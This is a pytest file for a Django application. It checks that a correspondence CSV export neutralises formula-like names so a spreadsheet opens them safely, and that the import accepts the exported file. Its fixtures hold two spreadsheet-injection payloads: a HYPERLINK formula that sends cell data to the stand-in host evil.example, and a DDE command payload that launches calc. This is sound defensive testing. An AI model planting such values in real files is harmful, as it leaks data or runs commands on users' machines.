"""The correspondence CSV (command and admin) is meant to be opened in a spreadsheet: a name
that a spreadsheet would run as a formula is written neutralised, and the import reads back
what the export wrote (issue 13, item 2)."""

import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from catalog.models import SeatCategory, Zone
from mappings.models import Correspondence
from spreadsheets import csv_read
from tests import factories as f
from tests.mappings.factories import build_event

pytestmark = pytest.mark.django_db

CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"Cat")'
ZONE = "@SUM(1+9)*cmd|' /C calc'!A0"


@pytest.fixture
def interface():
    interface = f.InterfaceFactory()
    build_event(interface=interface, zones=2, tariffs=1)
    category = SeatCategory.objects.filter(institution=interface.institution).first()
    category.name = CATEGORY
    category.save(update_fields=["name"])
    Zone.objects.filter(configuration__hall__institution=interface.institution,
                        block_letter="A").update(name=ZONE)
    return interface


def _exported_by_command(capsys, interface) -> str:
    call_command("export_correspondences", "--interface", interface.internal_name)
    return capsys.readouterr().out


def _exported_by_admin(client, interface) -> str:
    client.force_login(f.staff_user(interface.institution))
    response = client.get(reverse("admin:mappings_correspondence_export", args=[interface.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response.content.decode("utf-8")


@pytest.mark.parametrize("export", ["command", "admin"])
def test_formula_like_names_are_neutralised_in_the_export(export, capsys, client, interface):
    text = (_exported_by_command(capsys, interface) if export == "command"
            else _exported_by_admin(client, interface))
    cells = [cell for line in text.splitlines() for cell in line.split(";")]
    # No cell starts with a formula trigger: the names are prefixed with a quote.
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.strip('"').startswith("'=HYPERLINK(") for c in cells)
    assert any(c.strip('"').startswith("'@SUM(1+9)") for c in cells)
    # What a spreadsheet reads back is the name itself.
    objects = [cells[2] for _line, cells in csv_read(text)]
    assert CATEGORY in objects and ZONE in objects


def test_excel_reads_the_export_as_utf8_with_semicolons(client, interface):
    text = _exported_by_admin(client, interface)
    assert text.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8
    assert text.removeprefix("\ufeff").splitlines()[0] == "kind;id;object;context;code;suggestion"


def test_the_import_accepts_what_the_export_wrote(tmp_path, capsys, interface):
    rows = [cells for _line, cells in csv_read(_exported_by_command(capsys, interface))]
    header, body = rows[0], rows[1:]
    for cells in body:
        cells[4] = cells[5]  # take the suggestion
    from spreadsheets import csv_write

    path = tmp_path / "codes.csv"
    path.write_text(csv_write([header, *body], bom=True), encoding="utf-8")
    try:
        call_command("import_correspondences", str(path), "--interface",
                     interface.internal_name, "--json")
    except SystemExit as exc:
        pytest.fail(f"exit {exc.code}: {capsys.readouterr().out}")
    payload = json.loads(capsys.readouterr().out)
    assert payload["status"] == "OK", payload
    assert Correspondence.objects.filter(interface=interface).count() == len(body)
